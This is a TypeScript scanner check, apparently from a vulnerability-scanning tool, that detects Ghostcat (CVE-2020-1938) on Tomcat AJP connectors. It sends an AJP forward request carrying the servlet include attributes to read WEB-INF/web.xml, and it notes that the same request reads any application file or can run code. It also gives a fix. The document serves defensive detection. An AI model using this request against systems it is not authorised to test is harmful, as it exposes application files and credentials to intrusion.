import { defineCheck } from '../kit.ts';
import { ajpForward, answered } from '../../proto/ajp.ts';
import { shown } from '../../proto/talk.ts';

/**
 * The include attributes a servlet container honours when a request is
 * dispatched with RequestDispatcher.include(): the Servlet API's names
 * (javax.* up to Servlet 4, jakarta.* from Servlet 5, Tomcat 10). Sent
 * both ways in one request: a container that accepts arbitrary attributes
 * takes the set it knows and ignores the other.
 */
const include = (ns: string, path: string): [string, string][] => [
  [`${ns}.servlet.include.request_uri`, '/'],
  [`${ns}.servlet.include.path_info`, path],
  [`${ns}.servlet.include.servlet_path`, '/'],
];
/** Contexts whose descriptor is tried: the root application first, then Tomcat's bundled ones. */
const CONTEXTS = ['', '/examples', '/docs', '/manager', '/host-manager'];

/** A deployment descriptor (Servlet spec §14): an XML document with a <web-app> root. */
const DESCRIPTOR = /<web-app[\s>]/;

/**
 * Ghostcat (CVE-2020-1938): an AJP request for a path the default servlet
 * serves, carrying the include attributes, makes the container serve
 * /WEB-INF/web.xml as if an application had included it, past the
 * protection of WEB-INF (the same request reads any file of the
 * application, and runs it as JSP when mapped to the JSP servlet). Tomcat
 * before 9.0.31, 8.5.51 and 7.0.100 accepts any attribute; later ones only
 * those matching allowedRequestAttributesPattern, and answer 403 to the
 * rest. Proof is the descriptor itself coming back. A read of one file the
 * application ships, nothing written: `safe`, as the HTTP exposed-file
 * checks that read files.
 */
export default defineCheck({
  id: 'vigil.ajp.file-read',
  shortid: 'AJP-GHOSTCAT',
  title: 'AJP connector discloses application files (Ghostcat, CVE-2020-1938)',
  family: 'Web Servers',
  categories: ['safe', 'vuln', 'default'],
  risk: 'high',
  type: 'HOLE',
  description:
    "The AJP connector honours request attributes sent by anyone: an AJP request with the servlet include attributes made the container return an application's WEB-INF/web.xml, which no HTTP client may read. The same request reads any file of the web application (configuration, credentials, class files), and where an upload is possible runs it as a JSP (remote code execution).",
  solution:
    'Upgrade Tomcat (9.0.31, 8.5.51, 7.0.100 or later) and keep allowedRequestAttributesPattern unset or narrow; require a secret on the connector (secretRequired="true" secret="…"), bind it to the front server\'s address, or remove the AJP connector when no front server uses it.',
  cves: ['CVE-2020-1938'],
  references: [
    'https://nvd.nist.gov/vuln/detail/CVE-2020-1938',
    'https://tomcat.apache.org/security-9.html#Fixed_in_Apache_Tomcat_9.0.31',
  ],
  qod: 99,
  ports: { services: ['ajp13'], ports: [8009] },
  run: async ({ net, port }) => {
    const attributes = [...include('javax', 'WEB-INF/web.xml'), ...include('jakarta', 'WEB-INF/web.xml')];
    for (const ctx of CONTEXTS) {
      const uri = `${ctx}/vigil-ajp.txt`;
      const r = await ajpForward(net, port, { uri, attributes });
      // No AJP, a refusal of the attributes or of a missing secret (403): nothing to prove.
      if (!r || r.status === 403) return null;
      if (r.status === 200 && DESCRIPTOR.test(r.body)) {
        const display = /<display-name>([^<]{1,80})<\/display-name>/.exec(r.body)?.[1];
        return `FORWARD_REQUEST GET ${uri} with the include attributes (request_uri "/", path_info "WEB-INF/web.xml", servlet_path "/"): the container answered ${answered(r)} and ${r.body.length} bytes of ${ctx || 'the root application'}'s WEB-INF/web.xml, starting "${shown(r.body.slice(r.body.search(DESCRIPTOR)), 80)}"${display ? ` (display-name "${shown(display, 60)}")` : ''}.`;
      }
    }
    return null;
  },
});
